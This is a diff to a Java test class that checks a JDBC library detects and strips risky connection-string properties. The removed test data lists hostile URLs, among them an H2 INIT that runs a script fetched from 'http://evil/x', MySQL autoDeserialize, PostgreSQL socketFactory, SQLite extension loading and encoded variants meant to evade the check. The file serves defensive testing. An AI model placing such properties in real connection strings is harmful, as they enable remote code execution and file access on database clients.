@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.nljdbc.jdbc.execution.RiskyProperty.Treatment;
 import dev.nljdbc.testing.Engines;
+import dev.nljdbc.testing.TableTest;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.sql.Connection;
@@ -17,9 +18,7 @@ import java.util.Properties;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.EnumSource;
-import org.junit.jupiter.params.provider.ValueSource;
 
 /** A connection that the user did not ask for does nothing that the user's own has done. */
 class SideLoginTest {
@@ -34,28 +33,7 @@ class SideLoginTest {
     return SideLogin.of(url, properties);
   }
 
-  @ParameterizedTest
-  @CsvSource(
-      delimiter = '|',
-      textBlock =
-          """
-          jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'a.sql';MODE=MySQL | jdbc:h2:mem:x;MODE=MySQL
-          jdbc:h2:mem:x;init=CREATE SCHEMA IF NOT EXISTS s\\;SET SCHEMA s | jdbc:h2:mem:x;init=SET SCHEMA s
-          jdbc:h2:mem:x;INIT=SET SCHEMA a\\;RUNSCRIPT FROM 'x'\\;SET TIME ZONE 'UTC';Y=1 | jdbc:h2:mem:x;INIT=SET SCHEMA a\\;SET TIME ZONE 'UTC';Y=1
-          jdbc:h2:mem:x;INIT=SET @x = NEXT VALUE FOR s | jdbc:h2:mem:x
-          jdbc:h2:mem:x;INIT=INSERT INTO t VALUES('\\; SET SCHEMA y') | jdbc:h2:mem:x
-          jdbc:h2:mem:x;MODE=PostgreSQL | jdbc:h2:mem:x;MODE=PostgreSQL
-          jdbc:sqlite:a.db?enable_load_extension=true&journal_mode=WAL | jdbc:sqlite:a.db?journal_mode=WAL
-          jdbc:sqlite:a.db?journal_mode=WAL&enable_load_extension=true | jdbc:sqlite:a.db?journal_mode=WAL
-          jdbc:duckdb:a.db;session_init_sql_file=x.sql;threads=1 | jdbc:duckdb:a.db;threads=1
-          jdbc:mariadb://h/d?initSql=DELETE FROM t&user=u | jdbc:mariadb://h/d?user=u
-          jdbc:mariadb://h/d?initSql=SET SESSION sql_mode='ANSI_QUOTES';DELETE FROM t | jdbc:mariadb://h/d?initSql=SET SESSION sql_mode='ANSI_QUOTES'
-          jdbc:mariadb://h/d?allowLocalInfile=true&user=u | jdbc:mariadb://h/d?user=u
-          jdbc:mysql://h/d?user=u&autoDeserialize=true&queryInterceptors=x.Y | jdbc:mysql://h/d?user=u
-          jdbc:postgresql://h/d?socketFactory=x.Y&socketFactoryArg=z&sslmode=require | jdbc:postgresql://h/d?socketFactory=x.Y&socketFactoryArg=z&sslmode=require
-          jdbc:postgresql://h/d?loggerFile=/tmp/log&currentSchema=a | jdbc:postgresql://h/d?currentSchema=a
-          jdbc:oracle:thin:@h:1521/d | jdbc:oracle:thin:@h:1521/d
-          """)
+  @TableTest
   void url_ofTheUser_loosesWhatWouldBeDoneTwice(String url, String expected) {
     assertThat(second(url).url()).isEqualTo(expected);
   }
@@ -143,36 +121,12 @@ class SideLoginTest {
     }
   }
 
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "jdbc:nl:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x'",
-        "jdbc:nl:h2:mem:x;init = x",
-        "jdbc:nl:h2:mem:x;\u0131n\u0131t=x",
-        "jdbc:nl:h2:mem:x;%49NIT=x",
-        "jdbc:nl:h2:mem:x;%2549NIT=x",
-        "jdbc:nl:postgresql://h/?socketFactory=org.springframework.context.support.X",
-        "jdbc:nl:mysql://address=(host=h)(autoDeserialize=true)/d",
-        "jdbc:nl:mysql://(host=h,queryInterceptors=x.Y)/d",
-        "jdbc:nl:duckdb:;session_init_sql_file=/tmp/x",
-        "jdbc:nl:sqlite:x?enable_load_extension=true",
-        "socketFactory",
-        "LOGGERFILE"
-      })
+  @TableTest
   void in_anyWayToWriteIt_isFound(String text) {
     assertThat(RiskyProperty.in(text)).isPresent();
   }
 
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "jdbc:nl:postgresql://localhost/init?sslmode=require&ssl=true",
-        "jdbc:nl:sqlite:/home/me/init.db",
-        "jdbc:nl:h2:~/logger;MODE=MySQL",
-        "jdbc:nl:mariadb://h/d?user=init&myinit=1",
-        "user",
-        "currentSchema"
-      })
+  @TableTest
   void in_harmless_isEmpty(String text) {
     assertThat(RiskyProperty.in(text)).isEmpty();
   }
